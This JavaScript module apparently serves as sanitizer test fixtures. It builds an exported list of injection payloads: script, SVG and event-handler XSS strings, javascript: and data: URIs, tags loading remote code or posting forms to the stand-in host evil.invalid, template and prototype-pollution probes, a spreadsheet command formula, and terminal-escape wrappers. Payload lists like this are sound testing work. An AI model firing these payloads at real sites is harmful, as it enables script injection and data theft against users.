// Texts that want to be more than text. Whatever element one of them makes has the attribute `evil`, whatever script runs
// sets `window.__xss`, and whatever is fetched is at `evil.invalid`.

const RUN = "window.__xss=1";

const SEEDS = [
  `<script evil>${RUN}</script>`, `<script evil src=//evil.invalid/a.js></script>`, `<SCRIPT evil SRC="http://evil.invalid/b.js">`,
  `<img evil src=x onerror=${RUN}>`, `<img evil src="http://evil.invalid/pixel.gif">`, `<img evil src=x onerror=alert(1)>`,
  `<svg evil onload=${RUN}>`, `<svg evil><script>${RUN}</script></svg>`, `<svg evil><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg evil><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></svg>`, `<svg evil><foreignObject><iframe evil src=javascript:${RUN}></foreignObject></svg>`,
  `<a evil href="javascript:${RUN}">click</a>`, `<a evil href="java\tscript:${RUN}">click</a>`, `<a evil href="  javascript:${RUN}" autofocus onfocus=${RUN}>`,
  `<iframe evil src="javascript:${RUN}">`, `<iframe evil srcdoc="<script>parent.${RUN}</script>">`, `<object evil data="data:text/html,<script>${RUN}</script>">`,
  `<embed evil src="http://evil.invalid/x.swf">`, `<base evil href="http://evil.invalid/">`, `<meta evil http-equiv=refresh content="0;url=http://evil.invalid/">`,
  `<link evil rel=stylesheet href=http://evil.invalid/x.css>`, `<style evil>@import "http://evil.invalid/y.css"; body{display:none}</style>`,
  `<form evil action=http://evil.invalid/><button autofocus>send</button></form>`, `<input evil autofocus onfocus=${RUN}>`, `<video evil><source onerror=${RUN}></video>`,
  `<body evil onload=${RUN}>`, `<details evil open ontoggle=${RUN}>`, `<marquee evil onstart=${RUN}>`, `<math evil><mtext></p><style><img src=x onerror=${RUN}></math>`,
  `<template evil><script>${RUN}</script></template>`, `<div evil style="background:url(http://evil.invalid/z.png)">`, `<b evil onmouseover=${RUN}>bold</b>`,
  `javascript:${RUN}`, `data:text/html,<script evil>${RUN}</script>`, `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`,
  `{{ 7 * 7 }}{% for x in y %}`, `__proto__`, `constructor`, `]]><script evil>${RUN}</script>`, `&lt;script evil&gt;${RUN}&lt;/script&gt;`, `\\u003cscript evil\\u003e${RUN}`,
  `=cmd|' /C calc'!A0`,
];

const WRAPPERS = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'/>${text}<!--`,
  (text) => `</textarea></title></script></style>${text}`,
  (text) => `\u001b[31m${text}\u001b[0m\u001b]8;;javascript:${RUN}\u0007link\u001b]8;;\u0007\u001b]0;title\u001b\\`,
  (text) => `\u202e${text}\u202c\u2066isolate\u2069\u200b\ufeff\u061c`,
  (text) => `\u0000${text}\u009b31m\u0000\u0008\r\n\t${text}`,
];

/** All payloads, each once; the last ones are huge. */
export const PAYLOADS = [...SEEDS.flatMap((seed) => WRAPPERS.map((wrap) => wrap(seed))), ...SEEDS.slice(0, 6).map((seed) => seed.repeat(3000))];
